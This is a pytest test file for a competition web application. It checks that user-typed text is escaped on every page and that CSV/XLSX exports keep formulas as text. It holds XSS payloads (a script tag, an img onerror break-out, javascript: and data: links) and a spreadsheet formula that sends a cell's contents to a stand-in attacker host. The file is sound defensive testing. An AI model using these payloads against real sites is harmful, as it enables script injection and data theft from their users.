"""Stored XSS: markup typed into any text field is shown as text on every page that shows it.

Every free-text field of the world (names, organizations, project texts, comments, edition
and event descriptions, committee, partners, archive winners, invitations, countries) holds
a probe with a script tag, an attribute break-out and a javascript: link. Each page below
must show the probe escaped (so the page really displays the field) and never as markup.
No page renders user text with formatting (there is no Markdown anywhere), so escaping by
Jinja's autoescape is the whole defence; the first test pins that down.
"""

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from pdcompetition import PROJECT_ROOT
from pdcompetition.models import (
    ApplicationState,
    Award,
    AwardKind,
    Certificate,
    CertificateKind,
    OutboxMessage,
    Partner,
)

from . import factories
from .results_support import fast_password_hashes  # noqa: F401  (autouse: quick accounts)
from .security_world import build_world, sign_in

PROBE = '<script>alert(1)</script>"><img src=x onerror=alert(2)>javascript:alert(3)'
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
RAW = ("<script>alert(1)", "<img src=x onerror", "onerror=alert(2)>")
JS_LINK = re.compile(r"""(href|src|action|formaction|srcdoc)\s*=\s*["']?\s*javascript:""", re.I)


def test_templates_are_autoescaped(app):
    """Every template is HTML or XML (autoescaped), and no template marks a value as safe."""
    folder = Path(PROJECT_ROOT / "templates")
    for path in folder.rglob("*"):
        if path.is_file():
            name = str(path.relative_to(folder))
            assert path.suffix in (".html", ".xml") or name == "public/robots.txt", name
            assert app.jinja_env.autoescape(name) or path.suffix == ".txt", name
            text = path.read_text()
            assert "|safe" not in text.replace(" ", ""), name
            assert "autoescape false" not in text, name


def assert_escaped(body: str, where: str, *, shown: bool = True) -> None:
    for raw in RAW:
        assert raw not in body, f"{where}: the probe is rendered as markup"
    assert not JS_LINK.search(body), f"{where}: a javascript: link"
    if shown:
        assert ESCAPED in body, f"{where} does not show the probe at all"


def get_page(client, db, user, url):
    sign_in(client, db.session.get(type(user), user.id) if user else None)
    response = client.get(url, headers={"Accept-Language": "ru"})
    assert response.status_code == 200, f"{url} -> {response.status_code}"
    return response


def _pages(w):
    e = f"/manage/editions/{w.edition.id}"
    a, s, acc = w.draft.id, w.submitted.id, w.accepted.id
    return {
        "applicant": (w.owner, [
            "/applications/", f"/applications/{a}", f"/applications/{a}/print",
            f"/applications/{a}/submit", f"/applications/{a}/documents",
            *[f"/applications/{a}/edit/{s}" for s in ("person", "organization", "geography",
                                                      "nomination", "project")],
            f"/events/{w.event.id}", "/auth/profile",
        ]),
        "organizer": (w.organizer, [
            "/manage/", e, f"{e}/applications", f"{e}/applications?q=script",
            f"/manage/applications/{s}", f"/manage/applications/{acc}", f"{e}/nominations",
            f"{e}/criteria", f"{e}/edit", f"{e}/jury", f"{e}/jury/assignments",
            f"{e}/jury/assignments/{acc}", f"{e}/jury/progress", f"/jury/sheets/{w.sheet.id}",
            f"{e}/results", f"{e}/results/applications/{acc}",
            f"{e}/results/nominations/{w.nomination.id}", "/manage/public/",
            "/manage/public/events", f"/manage/public/events/{w.event.id}/edit",
            "/manage/public/committee", "/manage/public/partners",
            f"/manage/public/archive/{w.past.id}", f"/applications/{s}",
            f"/applications/{s}/print",
        ]),
        "juror": (w.juror, [
            "/jury/", f"/jury/applications/{acc}", f"/jury/applications/{acc}/conflict",
        ]),
        "admin": (w.admin, ["/admin/users", "/admin/countries", "/admin/audit"]),
        "public": (None, [
            "/", "/editions/2", "/events", f"/events/{w.event.id}",
            "/committee", "/partners", "/jury-members",
        ]),
    }


@pytest.fixture
def world(db, app):
    world = build_world(db, text=PROBE)
    world.member.is_public = world.edition.jury_published = True
    db.session.commit()
    return world


@pytest.mark.parametrize("role", ["applicant", "organizer", "juror", "admin", "public"])
def test_probe_escaped_on_every_page(role, world, client, db):
    user, urls = _pages(world)[role]
    for url in urls:
        body = get_page(client, db, user, url).get_data(as_text=True)
        assert_escaped(body, url)


def test_probe_escaped_where_it_may_not_show(world, client, db):
    """Pages that show the data only in some states: never markup, shown or not."""
    for url in ("/archive", "/editions/1", "/sitemap.xml", "/manage/results"):
        body = get_page(client, db, world.organizer, url).get_data(as_text=True)
        assert_escaped(body, url, shown=False)


def test_probe_escaped_on_published_results_and_certificates(world, client, db):
    """The public results, the winner's own result page and the certificate check."""
    edition = world.edition
    edition.jury_closed_at = edition.results_approved_at = factories.now()
    edition.results_published_at = edition.results_publish_at = factories.now()
    db.session.add(Award(application=world.accepted, edition_id=edition.id,
                         nomination_id=world.accepted.nomination_id, kind=AwardKind.WINNER))
    db.session.add(Certificate(application=world.accepted, kind=CertificateKind.DIPLOMA,
                               code="ABCD-2345-EFGH-JKLM"))
    db.session.commit()
    for url in ("/editions/2/results", "/verify/ABCD-2345-EFGH-JKLM"):
        assert_escaped(get_page(client, db, None, url).get_data(as_text=True), url)
    assert_escaped(get_page(client, db, None, "/results").get_data(as_text=True), "/results",
                   shown=False)
    url = f"/results/applications/{world.accepted.id}"
    assert_escaped(get_page(client, db, world.accepted.owner, url).get_data(as_text=True), url)


def _spreadsheet_cells(response) -> list[str]:
    if response.mimetype.endswith("sheet"):
        workbook = load_workbook(io.BytesIO(response.get_data()), read_only=True)
        return [str(cell) for sheet in workbook for row in sheet.iter_rows(values_only=True)
                for cell in row if cell is not None]
    text = response.get_data(as_text=True).lstrip("\ufeff")
    delimiter = ";" if ";" in text.splitlines()[0] else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


FORMULA_PROBE = '=HYPERLINK("https://evil.example/?"&A1,"Нажмите")'


@pytest.mark.parametrize("kind", ["applications", "scores", "ranking"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_keep_text_as_text(kind, fmt, db, client):
    """Exports: the probe is a plain cell, and a formula typed by an applicant or juror
    stays text in the spreadsheet (never run when the organizer opens it)."""
    world = build_world(db, text=FORMULA_PROBE)
    url = f"/manage/editions/{world.edition.id}/results/export/{kind}.{fmt}"
    response = get_page(client, db, world.organizer, url)
    cells = _spreadsheet_cells(response)
    typed = [cell for cell in cells if "HYPERLINK" in cell]
    assert typed, f"{url} does not show the typed text"
    if fmt == "csv":  # Excel runs a CSV cell starting with = + - @: a quote keeps it text
        assert all(cell.startswith("'" + FORMULA_PROBE) for cell in typed), typed[:3]
        assert "'" + FORMULA_PROBE in typed
    else:  # string cells, exactly as typed
        workbook = load_workbook(io.BytesIO(response.get_data()))
        typed = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row
                 if "HYPERLINK" in str(cell.value)]
        assert {cell.data_type for cell in typed} == {"s"}
        assert FORMULA_PROBE in [cell.value for cell in typed]


def test_attendee_exports_keep_text_as_text(db, client):
    world = build_world(db, text=FORMULA_PROBE)
    sign_in(client, world.owner)
    assert client.post(f"/events/{world.event.id}/register").status_code == 302
    for fmt in ("csv", "xlsx"):
        url = f"/manage/public/events/{world.event.id}/attendees.{fmt}"
        cells = [c for c in _spreadsheet_cells(get_page(client, db, world.organizer, url))
                 if "HYPERLINK" in c]
        assert cells and all(not c.startswith("=") for c in cells)


def test_mails_escape_html_and_keep_plain_text_readable(client, db):
    """The HTML part shows the probe escaped; the plain-text part shows it as typed."""
    world = build_world(db)
    world.owner.full_name = PROBE
    world.draft.project_title = 'Проект "Мост дружбы" & <молодёжь>'
    world.draft.consent_given_at = factories.now()
    db.session.commit()
    sign_in(client, world.owner)
    response = client.post(f"/applications/{world.draft.id}/submit",
                           data={"version": str(world.draft.version), "consent": "y"})
    assert response.status_code == 302
    assert world.draft.state == ApplicationState.SUBMITTED
    mail = db.session.scalars(db.select(OutboxMessage)).one()
    assert_escaped(mail.body_html, "mail html")
    assert PROBE in mail.body_text
    assert 'Проект "Мост дружбы" & <молодёжь>' in mail.body_text
    assert "&lt;" not in mail.body_text and "&#34;" not in mail.body_text


@pytest.mark.parametrize("link", ["javascript:alert(1)", "JaVaScRiPt:alert(1)",
                                  "data:text/html,<script>alert(1)</script>",
                                  " javascript:alert(1)"])
def test_links_people_type_must_be_web_addresses(link, client, db):
    """Links shown to others (applicants' project links, partners' websites) are http(s)."""
    world = build_world(db)
    sign_in(client, world.owner)
    client.post(f"/applications/{world.draft.id}/edit/project",
                data={"version": str(world.draft.version), "project_links": link})
    assert "javascript" not in world.draft.project_links.lower()
    assert "data:" not in world.draft.project_links
    sign_in(client, world.organizer)
    client.post("/manage/public/partners/new", data={"name_ru": "Фонд", "url": link})
    assert [p.url for p in db.session.scalars(db.select(Partner))] == ["https://example.org"]
